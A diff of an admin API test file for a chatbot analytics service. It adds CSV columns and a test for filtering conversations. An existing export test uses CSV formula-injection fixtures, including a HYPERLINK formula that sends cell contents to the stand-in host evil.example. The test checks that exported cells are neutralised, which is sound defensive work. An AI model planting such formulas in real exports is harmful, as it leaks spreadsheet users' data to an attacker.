@@ -177,17 +177,45 @@ describeStores('admin API', (kind) => {
       const text = await res.text();
       const lines = text.split('\r\n');
       expect(lines[0]).toBe(
-        'id,revision,visitor,page,release,intent,startedAt,endedAt,endReason,outcome,resolution,userMessages,botMessages,thumbsUp,thumbsDown,csat,csatComment,handoff,sentimentFirst,sentimentLast,traceIds',
+        'id,revision,visitor,page,release,intent,startedAt,endedAt,endReason,outcome,resolution,userMessages,botMessages,thumbsUp,thumbsDown,csat,csatComment,handoff,sentimentFirst,sentimentLast,negativeStreak,simulated,traceIds',
       );
       // newest first: evil (03-10) then plain (03-09); the plain comment's line break is inside quotes
       expect(lines[1]).toBe(
         `evil,1,'-v1,https://shop.example/help,'=1+2,'@cmd,2024-03-10T10:00:00.000Z,2024-03-10T10:05:00.000Z,end,unresolved,,2,2,1,2,1,` +
-          `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",false,-0.5,0.25,t1 t2`,
+          `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",false,-0.5,0.25,0,false,t1 t2`,
       );
       expect(text).toContain('"great, ""really""\nthanks"');
       expect(text.endsWith('\r\n')).toBe(true);
       // no cell starts with a formula character
       for (const cell of text.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@]/);
+    });
+
+    it('filters by outcome, intent, release and signal, in the list and the export alike', async () => {
+      const { app } = await makeApp({ kind });
+      const rows = [
+        summary({ id: 'down', intent: 'billing', thumbs: { up: 0, down: 1 }, outcome: 'unresolved', resolution: null }),
+        summary({ id: 'human', intent: 'billing', release: null, handoff: true, outcome: 'escalated', resolution: null }),
+        summary({ id: 'angry', intent: null, negativeStreak: 3, outcome: 'abandoned', resolution: null }),
+        summary({ id: 'fine', intent: 'shipping', negativeStreak: 1 }),
+      ];
+      expect((await collect(app, envelope(rows))).status).toBe(202);
+      const ids = async (filter: string) => {
+        const res = await admin(app, `/v1/conversations?site=${SITE}&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z${filter}`);
+        return ((await res.json()) as { conversations: Array<{ id: string }> }).conversations.map((c) => c.id).sort();
+      };
+      expect(await ids('&signal=thumbs-down')).toEqual(['down']);
+      expect(await ids('&signal=handoff')).toEqual(['human']);
+      expect(await ids('&signal=negative-streak')).toEqual(['angry']);
+      expect(await ids('&intent=billing')).toEqual(['down', 'human']);
+      expect(await ids('&intent=(none)')).toEqual(['angry']);
+      expect(await ids('&release=(none)')).toEqual(['human']);
+      expect(await ids('&intent=billing&outcome=escalated')).toEqual(['human']);
+      const csv = await (await admin(app, `/v1/export.csv?site=${SITE}&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z&signal=negative-streak`)).text();
+      expect(csv.split('\r\n').filter(Boolean).map((line) => line.split(',')[0])).toEqual(['id', 'angry']);
+      for (const bad of ['&signal=sad', '&outcome=great']) {
+        const res = await admin(app, `/v1/conversations?site=${SITE}${bad}`);
+        expect(res.status).toBe(400);
+      }
     });
 
     it('exports only the header when there is nothing in the period', async () => {
